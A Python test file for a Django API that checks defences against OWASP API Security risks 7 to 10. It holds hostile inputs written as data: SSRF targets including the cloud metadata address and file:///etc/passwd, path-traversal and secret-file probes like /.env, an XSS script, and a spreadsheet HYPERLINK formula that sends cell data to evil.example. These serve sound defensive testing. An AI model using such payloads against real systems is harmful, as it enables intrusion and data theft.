"""The OWASP API Security Top 10 of 2023, from 7 on: what is reached, shown, known and read."""

import re

import pytest
from django.test import Client

from catalogue.models import School, Webhook, WebhookDelivery
from tests.api.acting import build_program, mistakes
from tests.builders_enrolment import any_board, build_school, build_study, enrol
from tests.catalogue import registers
from tests.catalogue.coordinating import coordinator_at_the_desk
from tests.catalogue.desk import url
from tests.catalogue.listening import deliver, listen
from tests.receiving import receiving
from tests.security.routes import WEBHOOK, routes

pytestmark = pytest.mark.django_db

NEAR = (
    *("https://127.0.0.1/", "https://localhost/", "https://[::1]/", "https://10.0.0.1/"),
    *("https://169.254.169.254/latest/meta-data/", "https://[::ffff:169.254.169.254]/"),
    *("https://2130706433/", "https://0x7f.1/", "https://[64:ff9b::7f00:1]/", "https://0/"),
    *("http://93.184.215.14/", "gopher://93.184.215.14/", "file:///etc/passwd"),
    *("https://93.184.215.14:22/", "https://a@127.0.0.1/", "https://93.184.215.14#@127.0.0.1/"),
)
# Routes that the document does not describe, each with its reason.
UNDESCRIBED = {
    r"/(v1)?": "where one begins; the root leads to everything by links",
    r"/interventions/\{slug\}": "a page for people",
    r"/docs(/.*)?": "the documentation",
    r"/(robots|llms)\.txt|/\.well-known/.*": "standards say where these are and what they hold",
    r"/dcat(\.\w+)?": "the description of the data set has a vocabulary of its own",
    r"/oauth/\w+": "named in the security scheme; RFC 6749, 7009 and 7662 describe them",
    r"/health/(live|ready)": "for the operator",
    r"/admin(/.*)?": "the desk",
}
UNKNOWN = (
    *("/v0", "/v2", "/v2/interventions", "/v1/users", "/v1/clients", "/v1/metrics", "/metrics"),
    *("/.git/HEAD", "/.env", "/debug", "/admin.php", "/graphql", "/api", "/swagger.json"),
    *("/docs/..%2fapi%2fsettings.py", "/docs/%2e%2e/manage.py", "/static/..%2f..%2fmanage.py"),
    *("/oauth/authorize", "/oauth/applications/", "/o/token/", "/__debug__/"),
)
EVERYWHERE = {
    "X-Content-Type-Options": "nosniff",
    "X-Frame-Options": "DENY",
    "Referrer-Policy": "same-origin",
    "Cross-Origin-Opener-Policy": "same-origin",
}
TELLING = ("Server", "X-Powered-By", "X-AspNet-Version", "Via")
FORMULA = '=HYPERLINK("https://evil.example?"&A1)'
SCRIPT = "<script>alert(1)</script>"


def test_api7_server_side_request_forgery_reaches_nothing_near(settings):
    settings.WEBHOOKS_MAY_REACH = []
    program = build_program("program", board=any_board())
    there = program.post("/v1/webhooks", WEBHOOK)

    for target in NEAR:
        made = program.post("/v1/webhooks", WEBHOOK | {"url": target})
        changed = program.patch(there["Location"], {"url": target}, tag=there["ETag"])
        assert mistakes(made)["#/url"][0] == "target-not-allowed", target
        assert mistakes(changed)["#/url"][0] == "target-not-allowed", target

    assert Webhook.objects.get().url == WEBHOOK["url"]


def test_api7_server_side_request_forgery_is_not_led_on_by_a_redirect_or_a_later_change(settings):
    settings.WEBHOOKS_MAY_REACH = ["127.0.0.1/32"]
    program = build_program("program", board=any_board())
    with receiving() as inside, receiving() as receiver:
        receiver.status, receiver.headers = 307, {"Location": inside.url}
        listen(program.client, receiver.url, ["enrolment.created"])
        program.enrol(build_study(), build_school())
        deliver()
        assert (len(receiver.received), len(inside.received)) == (1, 0)

        settings.WEBHOOKS_MAY_REACH = []  # as when its name has come to mean this machine
        WebhookDelivery.objects.update(next_attempt_at="2020-01-01T00:00:00Z")
        deliver()
        assert (len(receiver.received), len(inside.received)) == (1, 0)


def test_api8_security_misconfiguration_shows_nothing_and_opens_nothing(settings):
    school = build_school()
    origin = {"Origin": "https://evil.example"}
    public = ("/", "/v1", f"/v1/schools/{school.code}", "/v1/nothing", "/health/live")
    private = ("/v1/enrolments", "/v1/webhooks", "/v1/mandates", "/oauth/token", "/admin/login/")

    for path in (*public, *private):
        answer = Client().get(path, headers=origin)
        assert {name: answer.get(name) for name in EVERYWHERE} == EVERYWHERE, path
        assert "unsafe" not in answer["Content-Security-Policy"], path
        assert not [name for name in TELLING if name in answer], path
        assert "Access-Control-Allow-Credentials" not in answer, path
        for method in ("TRACE", "TRACK", "CONNECT"):
            assert Client().generic(method, path).status_code == 405, (method, path)
    for path in private:
        shown = Client().options(path, headers=origin | {"Access-Control-Request-Method": "POST"})
        assert "Access-Control-Allow-Origin" not in shown, path

    lost = Client().get("/v1/nothing", {"q": SCRIPT}, headers={"Accept": "text/html"})
    assert SCRIPT not in lost.content.decode()
    assert Client(headers={"host": "evil.example"}).get("/v1").status_code == 400
    assert (settings.DEBUG, "*" in settings.ALLOWED_HOSTS) == (False, False)
    login = Client().get("/admin/login/?next=/admin/").cookies["csrftoken"]
    assert (login["httponly"], login["samesite"]) == (True, "Lax")


def test_api9_improper_inventory_management_leaves_no_route_without_a_description():
    described = {f"/v1{path}" for path in Client().get("/v1/openapi.json").json()["paths"]}
    reason = re.compile("|".join(f"(?:{pattern})" for pattern in UNDESCRIBED))

    hidden = [r for r in routes() if r not in described and not reason.fullmatch(r)]

    assert hidden == []
    assert described <= set(routes())
    assert {path: Client().get(path).status_code for path in UNKNOWN} == dict.fromkeys(
        UNKNOWN, 404
    )


def test_api10_unsafe_consumption_of_apis_takes_texts_of_others_as_texts_only(tmp_path):
    """A register and a client say what they like; nobody's browser or spreadsheet runs it."""
    registers.with_sectors()
    names = registers.OLD.split(";")
    row = registers.row(**{names[4].replace(" ", "_"): SCRIPT})
    registers.load(registers.written(tmp_path, registers.text_of(row)), "--sector", "po")
    study = build_study(is_fictitious=True)
    enrol(study, School.objects.get(), contact_name=FORMULA)
    desk = coordinator_at_the_desk()

    listed = desk.get(url("enrolment_changelist")).content.decode()
    sent = {"kind": "csv", "language": "en", "with_contact": "on"}
    file = b"".join(desk.post(url("enrolment_export"), sent).streaming_content).decode()

    assert SCRIPT not in listed
    assert "&lt;script&gt;" in listed
    assert "\"'=HYPERLINK" in file
    said = Client().get("/v1/schools")
    assert said.json()["results"][0]["name"] == SCRIPT
    assert (said["Content-Type"], said["X-Content-Type-Options"]) == (
        "application/json",
        "nosniff",
    )


@pytest.mark.parametrize(
    ("status", "headers"),
    [
        (200, {"Retry-After": "9" * 400}),
        (503, {"Retry-After": "Mon, 99 Nov 9999 99:99:99 GMT"}),
        (429, {"Retry-After": "-1"}),
        (999, {}),
        (301, {"Location": "//[::1"}),
        (410, {"X": "x" * 60_000}),
    ],
)
def test_api10_unsafe_consumption_of_apis_survives_what_a_receiver_answers(
    status, headers, settings
):
    settings.WEBHOOKS_MAY_REACH = ["127.0.0.1/32"]
    program = build_program("program", board=any_board())
    with receiving() as receiver:
        receiver.status, receiver.headers = status, headers
        listen(program.client, receiver.url, ["enrolment.created"])
        program.enrol(build_study(), build_school())

        deliver()

    assert WebhookDelivery.objects.get().attempts == 1
